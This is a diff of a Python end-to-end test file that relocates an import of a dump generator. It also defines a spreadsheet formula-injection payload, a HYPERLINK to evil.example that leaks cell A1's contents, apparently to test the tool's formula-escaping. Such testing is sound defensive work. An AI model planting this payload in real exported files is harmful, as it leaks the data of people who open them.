@@ -22,8 +22,8 @@ from typing import Any
 
 import pytest
 
-from lizardctl.core.dumpgen import generate_dump
 from lizardctl.core.output import FORMULA_STARTS
+from lizardctl.testing.dumpgen import generate_dump
 from tests.e2e.conftest import Cli, Outcome, invoke
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Pay here")'
